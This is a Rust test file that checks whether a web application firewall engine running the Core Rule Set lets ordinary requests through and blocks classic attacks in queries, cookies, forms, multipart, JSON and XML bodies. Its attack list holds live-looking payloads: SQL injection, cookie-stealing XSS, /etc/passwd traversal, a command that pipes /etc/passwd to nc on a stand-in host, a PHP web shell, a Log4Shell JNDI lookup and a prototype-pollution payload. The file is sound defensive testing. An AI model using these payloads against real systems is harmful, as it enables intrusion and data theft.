//! The Core Rule Set as sites run it: blocking, paranoia level 1, threshold 5. Ordinary requests
//! pass, classic attacks are denied wherever they stand.

use fosse_seclang::{Arena, Bundle, Environment, NoStore, Now, Outcome, Ruleset, Schedule, Scratch, Transaction};
use std::path::Path;

fn rules() -> Option<Ruleset> {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../../shared/corpora/crs4");
    let Ok(directory) = std::fs::read_dir(corpus.join("rules")) else {
        println!("skipped: no rule set at {}", corpus.display());
        return None;
    };
    let mut bundle = Bundle::new();
    for entry in directory {
        let path = entry.unwrap().path();
        bundle.insert(&format!("rules/{}", path.file_name().unwrap().to_string_lossy()), std::fs::read(&path).unwrap());
    }
    bundle.insert("setup.conf", std::fs::read(corpus.join("crs-setup.conf.example")).unwrap());
    bundle.insert("modsecurity.conf", include_str!("../examples/crs4/modsecurity.conf"));
    bundle
        .insert("main.conf", "Include modsecurity.conf\nSecRuleEngine On\nInclude setup.conf\nInclude rules/*.conf\n");
    Some(Ruleset::compile(&bundle, "main.conf").unwrap_or_else(|errors| panic!("{}", errors[0])))
}

/// The outcome of phases 1 and 2, and the log.
fn judge(rules: &Ruleset, method: &str, uri: &str, headers: &[(&str, &str)], body: &[u8]) -> (Outcome, String) {
    let (mut scratch, mut schedule, mut store) = (Scratch::default(), || Schedule::Go, NoStore);
    let mut env = Environment { scratch: &mut scratch, schedule: &mut schedule, store: &mut store };
    let mut transaction = Transaction::new(rules, Arena::default(), Now { seconds: 1_700_000_000, elapsed_micros: 0 });
    transaction.connection("192.0.2.7".parse().unwrap(), 1234, "192.0.2.1".parse().unwrap(), 443);
    transaction.request_line(
        format!("{method} {uri} HTTP/1.1").as_bytes(),
        method.as_bytes(),
        uri.as_bytes(),
        b"HTTP/1.1",
    );
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    for (name, value) in [("Host", "www.example.com"), ("User-Agent", agent), ("Accept", "*/*")] {
        transaction.header(name.as_bytes(), value.as_bytes());
    }
    for (name, value) in headers {
        transaction.header(name.as_bytes(), value.as_bytes());
    }
    if !body.is_empty() {
        transaction.header(b"Content-Length", body.len().to_string().as_bytes());
    }
    let mut outcome = transaction.phase1(&mut env);
    if outcome == Outcome::Continue {
        transaction.request_body(body);
        outcome = transaction.phase2(&mut env);
    }
    let log =
        transaction.matches().map(|found| String::from_utf8_lossy(&found.log_line()).into_owned() + "\n").collect();
    (outcome, log)
}

const FORM: (&str, &str) = ("Content-Type", "application/x-www-form-urlencoded");
const JSON: (&str, &str) = ("Content-Type", "application/json");
const PARTS: (&str, &str) = ("Content-Type", "multipart/form-data; boundary=----x7");

#[test]
fn ordinary_requests_pass() {
    let Some(rules) = rules() else { return };
    let upload = b"------x7\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"garden party.jpg\"\r\n\
        Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF\r\n------x7\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n\
        Our garden in June\r\n------x7--\r\n";
    let letter = b"name=Anna+O%27Neill&message=Dear+team%2C+I+would+like+to+select+a+chair+from+your+new+catalogue+and+update+my+order.\
        +It%27s+for+my+sister%2C+who+lives+at+12+Station+Road.+Many+thanks%21";
    let cookies = "_ga=GA1.2.1234567890.1699999999; _gid=GA1.2.987654321.1700000000; _fbp=fb.1.1699999999999.1234567890; session=8f14e45fceea167a";
    for (method, uri, headers, body) in [
        ("GET", "/", vec![], b"".as_slice()),
        ("GET", "/search?q=garden+chairs+and+tables&page=2&sort=price-asc", vec![("Cookie", cookies)], b""),
        ("GET", "/caf%C3%A9?q=M%C3%BCller", vec![("Accept-Language", "de-DE,de;q=0.9,en;q=0.5")], b""),
        ("POST", "/contact", vec![FORM], letter),
        ("POST", "/upload", vec![PARTS], upload),
        ("POST", "/api/items", vec![JSON], br#"{"name":"Chair","price":12.5,"tags":["garden","oak"],"note":null}"#),
        (
            "POST",
            "/graphql",
            vec![JSON],
            br#"{"query":"query Items($n: Int!) { items(first: $n) { id name } }","variables":{"n":10}}"#,
        ),
        ("POST", "/rpc", vec![JSON], br#"{"jsonrpc":"2.0","method":"sum","params":[1,2],"id":7}"#),
    ] {
        let (outcome, log) = judge(&rules, method, uri, &headers, body);
        assert_eq!(outcome, Outcome::Continue, "{method} {uri}\n{log}");
    }
}

#[test]
fn classic_attacks_are_denied_wherever_they_stand() {
    let Some(rules) = rules() else { return };
    let encoded = |text: &str| text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>();
    for attack in [
        "1' UNION SELECT password FROM users-- -",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/passwd | nc 192.0.2.9 4444",
        "<?php system($_GET['c']); ?>",
        "${jndi:ldap://192.0.2.9/a}",
        "{{constructor.constructor('return process')().exit()}}__proto__[x]=require('child_process')",
    ] {
        let parts = format!("------x7\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{attack}\r\n------x7--\r\n");
        let xml = format!("<a><b><![CDATA[{attack}]]></b></a>");
        let json = format!("{{\"a\":{{\"b\":\"{}\"}}}}", attack.replace('\\', "\\\\").replace('"', "\\\""));
        let query = format!("/find?a={}", encoded(attack));
        let cookie = format!("a={}", attack.replace(';', "%3b"));
        for (place, method, uri, headers, body) in [
            ("query", "GET", query.as_str(), vec![], String::new()),
            ("cookie", "GET", "/", vec![("Cookie", cookie.as_str())], String::new()),
            ("form", "POST", "/", vec![FORM], format!("a={}", encoded(attack))),
            ("multipart", "POST", "/", vec![PARTS], parts),
            ("json", "POST", "/", vec![JSON], json),
            ("xml", "POST", "/", vec![("Content-Type", "text/xml")], xml),
        ] {
            let (outcome, log) = judge(&rules, method, uri, &headers, body.as_bytes());
            assert!(matches!(outcome, Outcome::Deny { .. }), "{attack} in {place}: {outcome:?}\n{log}");
        }
    }
}
